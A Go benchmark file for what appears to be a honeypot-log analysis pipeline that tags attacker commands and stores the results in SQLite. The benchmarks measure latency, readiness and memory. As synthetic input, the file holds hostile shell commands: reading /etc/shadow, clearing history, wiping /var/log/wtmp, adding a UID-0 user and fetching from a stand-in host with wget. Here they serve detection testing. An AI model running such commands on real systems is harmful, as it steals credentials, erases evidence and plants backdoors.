package main

import (
	"context"
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"sync"
	"testing"
	"time"

	"golang.org/x/sync/errgroup"

	"github.com/ttpstream/ttpstream/processors"
	"github.com/ttpstream/ttpstream/projections"
	"github.com/ttpstream/ttpstream/projections/sqlstore"
	"github.com/ttpstream/ttpstream/rules"
	"github.com/ttpstream/ttpstream/rules/pack"
	"github.com/ttpstream/ttpstream/schemas"
	"github.com/ttpstream/ttpstream/schemas/schematest"
	"github.com/ttpstream/ttpstream/topology"
	"github.com/ttpstream/ttpstream/topology/topologytest"
)

// BenchmarkLatencyToSQL measures how long after an event should have been
// produced its tag is committed in SQLite, with the whole pack. Each event's
// clock starts when it is due, whatever the line does (coordinated omission).
func BenchmarkLatencyToSQL(b *testing.B) {
	b.Run("embedded/1000-per-s", func(b *testing.B) { benchmarkToSQL(b, topologytest.Embedded(b), 1000) })
	b.Run("kafka/1000-per-s", func(b *testing.B) { benchmarkToSQL(b, topologytest.Kafka(b), 1000) })
}

const (
	toSQLFor    = 10 * time.Second
	toSQLWarmup = 2 * time.Second
)

// timedStore notes when the tags of each event were committed.
type timedStore struct {
	projections.LedgerWriter
	mu   sync.Mutex
	due  map[string]time.Time
	took []time.Duration
	left chan struct{} // closed when every event is in
}

// Write writes, then looks at the clock.
func (s *timedStore) Write(ctx context.Context, batches ...projections.Batch) error {
	if err := s.LedgerWriter.Write(ctx, batches...); err != nil {
		return err
	}
	now := time.Now()
	s.mu.Lock()
	defer s.mu.Unlock()
	for _, batch := range batches {
		for _, entry := range batch.Entries {
			if entry.Tag == nil {
				continue
			}
			if due, ok := s.due[entry.Tag.SourceID]; ok {
				delete(s.due, entry.Tag.SourceID)
				s.took = append(s.took, now.Sub(due))
				if len(s.due) == 0 {
					close(s.left)
				}
			}
		}
	}
	return nil
}

func benchmarkToSQL(b *testing.B, cluster topology.Cluster, rate int) {
	topologytest.Provision(b, cluster)
	store, err := sqlstore.Open(b.Context(), "sqlite:"+filepath.Join(b.TempDir(), "ledger.db"), sqlstore.Options{})
	if err != nil {
		b.Fatal(err)
	}
	defer store.Close()
	total := int((toSQLFor + toSQLWarmup).Seconds()) * rate
	timed := &timedStore{LedgerWriter: store, due: make(map[string]time.Time, total), left: make(chan struct{})}
	stop := startWholeLine(b, cluster, timed)
	defer stop()
	producer := topologytest.Producer(b, cluster)
	events := make([]topology.Message, total)
	start, gap := time.Now().Add(time.Second), time.Second/time.Duration(rate)
	for i := range events {
		event := schematest.Command(func(e *schemas.CommandEvent) {
			e.Command = fmt.Sprintf("cat /etc/shadow # %d", i)
			e.EventID = schemas.EventID([]byte(e.Command), schemas.EventPart{})
			e.AttackerUUID = schematest.ID(fmt.Sprint("attacker", i%97))
		})
		raw, err := schemas.EncodeJSON(event)
		if err != nil {
			b.Fatal(err)
		}
		events[i] = topology.Message{Topic: topology.AttackerCommand, Key: event.AttackerUUID.String(), Value: raw}
		timed.due[event.EventID.String()] = start.Add(time.Duration(i) * gap)
	}
	for b.Loop() {
		for i, event := range events {
			time.Sleep(time.Until(start.Add(time.Duration(i) * gap)))
			producer.Produce(b.Context(), event, nil)
		}
		<-timed.left
	}
	took := timed.took[int(toSQLWarmup.Seconds())*rate:]
	slices.Sort(took)
	at := func(p float64) float64 {
		return float64(took[int(p*float64(len(took)-1))].Microseconds()) / 1000
	}
	b.ReportMetric(at(0.50), "p50-ms")
	b.ReportMetric(at(0.99), "p99-ms")
	b.ReportMetric(0, "ns/op")
}

// startWholeLine runs every role and a projector, with the whole pack in force.
func startWholeLine(b *testing.B, cluster topology.Cluster, store projections.LedgerWriter) (stop func()) {
	line, err := processors.NewLine(processors.Env{
		Cluster: cluster, Storage: topology.DiskStorage(b.TempDir()), Watch: topology.NewWatch(), Metrics: &processors.Metrics{},
	}, processors.LineOptions{Instance: "bench"})
	if err != nil {
		b.Fatal(err)
	}
	projector, err := projections.NewProjector(projections.ProjectorOptions{Cluster: cluster, Store: store})
	if err != nil {
		b.Fatal(err)
	}
	units, problems := rules.LoadFS(pack.FS, rules.Options{})
	if len(problems) > 0 {
		b.Fatal(problems)
	}
	ctx, cancel := context.WithCancel(context.Background())
	group, ctx := errgroup.WithContext(ctx)
	ready := make(chan struct{})
	group.Go(func() error { return projector.Run(ctx) })
	group.Go(func() error {
		return line.Run(ctx, func(ctx context.Context) error {
			defer close(ready)
			last, err := publishUnits(ctx, topologytest.Producer(b, cluster), listsFirst(units), nil)
			if err != nil {
				return err
			}
			if err := line.Registrar.Handled(ctx, topology.Rules, last); err != nil {
				return err
			}
			return line.Follower.Wait(ctx, line.Registrar.Revision())
		})
	})
	<-ready
	return func() {
		cancel()
		if err := group.Wait(); err != nil {
			b.Error(err)
		}
	}
}

// envTags is how many tags stand behind [BenchmarkUp]. Default: 100,000.
const envTags = "TTPSTREAM_BENCH_TAGS"

// BenchmarkUp measures a start of up on a directory with many tags behind it:
// the time until it is ready, and the memory that is resident then.
func BenchmarkUp(b *testing.B) {
	tags, err := strconv.Atoi(os.Getenv(envTags))
	if err != nil {
		tags = 100_000
	}
	log, data := filepath.Join(b.TempDir(), "log.json"), filepath.Join(b.TempDir(), "data")
	writeFileText(b, log, denseLog(tags))
	if c := runChild(b, nil, "up", "--once", "--data", data, "--port", "0", log); c.code != exitDone {
		b.Fatal(c.stderr())
	}
	for b.Loop() {
		began := time.Now()
		up := startUpOn(b.Context(), b, data)
		b.ReportMetric(float64(time.Since(began).Milliseconds()), "ready-ms")
		up.get(b.Context(), b, "techniques")
		up.get(b.Context(), b, "by-attacker")
		b.ReportMetric(residentMB(b, up.children[0].command.Process.Pid), "resident-MB")
		up.leave(b)
	}
	b.ReportMetric(float64(tags), "tags-behind")
	b.ReportMetric(0, "ns/op")
}

// denseLog is a log with at least so many tags in few lines.
func denseLog(tags int) string {
	var log []byte
	const line = "cat /etc/shadow; history -c; crontab -r; chmod 777 /tmp/x; uname -a; wget http://203.0.113.7/x; whoami; rm -f /var/log/wtmp; useradd -o -u 0 x"
	for i := range tags / 9 {
		at := time.Date(2026, 3, 1, 0, 0, 0, 0, time.UTC).Add(time.Duration(i) * time.Second).Format("2006-01-02T15:04:05.000000Z")
		log = fmt.Appendf(log, `{"eventid":"cowrie.command.input","input":"%s%d","session":"%012x","src_ip":"198.18.%d.%d","sensor":"s","timestamp":"%s"}`+"\n",
			line, i, i/9, i/9%250, i/2250%250, at)
	}
	return string(log)
}

var residentLine = regexp.MustCompile(`VmRSS:\s+(\d+) kB`)

func residentMB(b *testing.B, pid int) float64 {
	status, err := os.ReadFile(fmt.Sprintf("/proc/%d/status", pid))
	if err != nil {
		b.Fatal(err)
	}
	found := residentLine.FindSubmatch(status)
	if found == nil {
		return 0
	}
	kib, err := strconv.Atoi(string(found[1]))
	if err != nil {
		b.Fatal(err)
	}
	return float64(kib) / 1024
}
